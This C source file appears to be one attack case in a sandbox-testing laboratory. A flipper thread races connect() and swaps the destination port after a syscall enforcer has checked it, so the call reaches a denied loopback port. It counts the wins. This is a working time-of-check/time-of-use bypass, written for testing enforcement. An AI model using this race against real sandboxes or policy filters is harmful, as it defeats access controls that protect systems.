// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: the address that the kernel connects to is the address that was
 * judged, although a second thread changes the port (catalogue A8).
 *
 *	caller			flipper			enforcer
 *	connect(address) ----------------------------->	reads: permitted port
 *				port := denied
 *	kernel copies address <-----------------------	lets the call through
 *				port := permitted
 *
 * Only loopback ports that the laboratory listens on are tried. A win is a
 * connection whose peer has the denied port; its listener accepts it.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sys/socket.h>

static struct sockaddr_in address;
static in_port_t ports[2];
static _Atomic unsigned int turns;
static _Atomic bool stop;

static void *flipper(void *unused)
{
	volatile in_port_t *port = &address.sin_port;

	(void)unused;
	for (unsigned int turn = 1; !atomic_load(&stop); turn++) {
		*port = ports[turn & 1];
		atomic_store(&turns, turn);
		spin(flip_pause(turn));
	}
	return NULL;
}

/* The port that was reached, in network order; 0 and errno when none was. */
static in_port_t reach(int type)
{
	struct linger reset = { .l_onoff = 1 };
	struct sockaddr_in peer = { 0 };
	socklen_t size = sizeof(peer);
	int fd = (int)syscall(SYS_socket, JUNK(AF_INET), JUNK(SOCK_STREAM | type), JUNK(0));
	long result;

	if (fd < 0)
		broken("socket: %s", strerror(errno));
	setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	result = syscall(SYS_connect, JUNK(fd), &address, JUNK(sizeof(address)));
	if (result < 0 && errno == EINPROGRESS) {
		struct pollfd ready = { .fd = fd, .events = POLLOUT };

		poll(&ready, 1, 1000);
		result = 0;
	}
	if (result < 0 || getpeername(fd, (struct sockaddr *)&peer, &size))
		peer.sin_port = 0;
	int error = errno;
	close(fd);
	errno = error;
	return peer.sin_port;
}

static void race(struct run *run, int first, int second)
{
	pthread_t thread;

	ports[0] = htons(first);
	ports[1] = htons(second);
	address.sin_port = ports[0];
	if (pthread_create(&thread, NULL, flipper, NULL))
		broken("no second thread");
	while (race_next(run, &turns)) {
		in_port_t port = reach(SOCK_NONBLOCK);

		if (!port)
			run->error = errno;
		else if (port == ports[1])
			run->wins++;
	}
	atomic_store(&stop, true);
	pthread_join(thread, NULL);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	address.sin_family = AF_INET;
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	switch (run.mode) {
	case MODE_BENIGN:
		run.limit = BENIGN_ROUNDS;
		race(&run, run.allowed_port, run.allowed_port);
		break;
	case MODE_DIRECT:
		run.attempts = 1;
		address.sin_port = htons(run.port);
		run_result(&run, reach(0) ? 0 : -1);
		break;
	case MODE_ATTACK:
		race(&run, run.allowed_port, run.port);
		break;
	}
	run_end(&run);
}
